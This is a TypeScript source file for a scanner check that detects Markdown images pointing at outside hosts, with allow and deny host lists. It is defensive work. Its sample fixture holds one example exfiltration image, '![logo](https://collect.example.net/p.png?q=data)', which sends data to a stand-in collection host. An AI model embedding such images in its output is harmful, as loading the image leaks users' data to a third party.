import { compileGlob, fitsGlob } from '#core';
import type { Check, CheckOptions, SpanCheck } from '../check.ts';
import { spansOf } from '../spans-of.ts';

const IMAGE = /!\[[^\]\n]{0,256}\]\(\s{0,4}<?(?:https?:)?\/\/([^\s/?#)>:]{1,255})[^\s)>]{0,2048}/gi;

/** Images that a page would load by itself. */
export const markdownImages: Check = {
  name: 'markdown-images',
  summary:
    'Markdown images from other hosts: a page that shows them sends what stands in the address. `allow` names hosts that may be there, `deny` those that may not.',
  limits: 'Images by reference (`![a][1]`) are not found.',
  compile,
  sample: {
    options: { allow: ['*.example.com'] },
    hit: { kind: 'text', text: '![logo](https://collect.example.net/p.png?q=data)' },
    miss: { kind: 'text', text: '![logo](https://static.example.com/logo.png)' },
  },
};

function compile({ allow = [], deny }: CheckOptions): SpanCheck {
  const allowed = allow.map((host) => compileGlob(host.toLowerCase()));
  const denied = deny?.map((host) => compileGlob(host.toLowerCase()));
  return {
    kind: 'spans',
    label: 'IMAGE',
    reach: 2600,
    find: (text) => (text.includes('![') ? spansOf(text, IMAGE, ([, host = '']) => isRefused(host.toLowerCase())) : []),
  };

  function isRefused(host: string): boolean {
    if (denied?.some((glob) => fitsGlob(glob, host))) return true;
    return (allowed.length > 0 || denied === undefined) && !allowed.some((glob) => fitsGlob(glob, host));
  }
}
